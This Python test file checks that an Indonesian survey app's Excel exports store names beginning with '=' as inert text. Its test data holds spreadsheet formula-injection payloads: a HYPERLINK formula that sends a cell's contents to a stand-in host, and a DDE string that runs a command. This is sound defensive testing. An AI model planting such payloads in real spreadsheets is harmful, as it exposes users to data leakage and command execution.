"""A name starting with '=' reaches every export as a string cell, never a live formula."""
from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from models.assignment.assign import assign, sls_versions
from models.assignment.export import export_assignments
from models.audit import log as audit
from models.audit.export import export_audit
from models.audit.queries import AuditFilter
from models.errors import ImportProblem, Severity
from models.recon.export import export_persons, export_summary
from models.recon.run import run_reconciliation
from models.recon.views import Level
from models.schema.batches import ImportKind
from models.sheets.problem_report import write_problem_report
from tests.builders import SmallCity, set_office_codes, write_csv
from tests.recon_cases import P, add_batch

LINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
SUM = "=1+1"
CMD = "=cmd|' /C calc'!A0"


def formulas(path: Path) -> list[str]:
    """Every <f> element (a formula) in the workbook's sheets."""
    with zipfile.ZipFile(path) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]


def cells(path: Path) -> list[object]:
    sheet = load_workbook(path).active
    return [c.value for row in sheet.iter_rows() for c in row]


def data_types(path: Path, value: str) -> set[str]:
    sheet = load_workbook(path).active
    return {c.data_type for row in sheet.iter_rows() for c in row if c.value == value}


@pytest.fixture
def city(db):  # type: ignore[no-untyped-def]
    with db.session() as session:
        set_office_codes(session)
        small = SmallCity(session)
        small.ppl[0].name, small.kel_a.name, small.sls[0].name = LINK, SUM, CMD
        session.commit()
        assign(session, {s: small.ppl_ids[0] for s in small.sls_ids[:3]},
               sls_versions(session, small.sls_ids[:3]), "sari")
        codes = [s.bps_code for s in small.sls]
        add_batch(session, ImportKind.ONLINE, [P(1, LINK), P(2, SUM)], small.sls_ids, codes)
        add_batch(session, ImportKind.LAPANGAN, [P(1, CMD)], small.sls_ids, codes)
        session.commit()
        run_reconciliation(session, by="tester")
        return small


def _check(path: Path, *values: str) -> None:
    assert formulas(path) == [], path.name
    found = cells(path)
    for value in values:
        assert value in found, (path.name, value)
        assert data_types(path, value) == {"s"}, (path.name, value)


def test_assignment_export(db, city, tmp_path: Path) -> None:
    with db.session() as session:
        export_assignments(session, tmp_path / "p.xlsx")
    _check(tmp_path / "p.xlsx", LINK, SUM, CMD)


@pytest.mark.parametrize("level, values", [(Level.KELURAHAN, [SUM]), (Level.SLS, [CMD]),
                                           (Level.PPL, [LINK])])
def test_recon_summary_export(db, city, tmp_path: Path, level: Level,
                              values: list[str]) -> None:
    with db.session() as session:
        export_summary(session, tmp_path / "s.xlsx", level)
    _check(tmp_path / "s.xlsx", *values)


def test_recon_persons_export(db, city, tmp_path: Path) -> None:
    with db.session() as session:
        export_persons(session, tmp_path / "o.xlsx")
    _check(tmp_path / "o.xlsx", LINK, SUM, CMD)


def test_audit_export(db, city, tmp_path: Path) -> None:
    with db.session() as session:
        audit.record(session, "ubah", "petugas", SUM, before=None, after={"name": LINK}, by=CMD)
        session.commit()
        export_audit(session, AuditFilter(), tmp_path / "a.xlsx")
    _check(tmp_path / "a.xlsx", SUM, CMD)


def test_problem_report(tmp_path: Path) -> None:
    source = write_csv(tmp_path / "isian.csv", [["NIK", "Nama"], ["123", LINK], ["456", SUM]],
                       delimiter=";")
    write_problem_report(tmp_path / "m.xlsx", source, sheet="isian", header_row=0,
                         problems=[ImportProblem("isian", 2, "NIK", Severity.ERROR,
                                                 "bukan 16 angka"),
                                   ImportProblem("isian", 3, "NIK", Severity.ERROR, CMD)])
    _check(tmp_path / "m.xlsx", LINK, SUM, CMD)
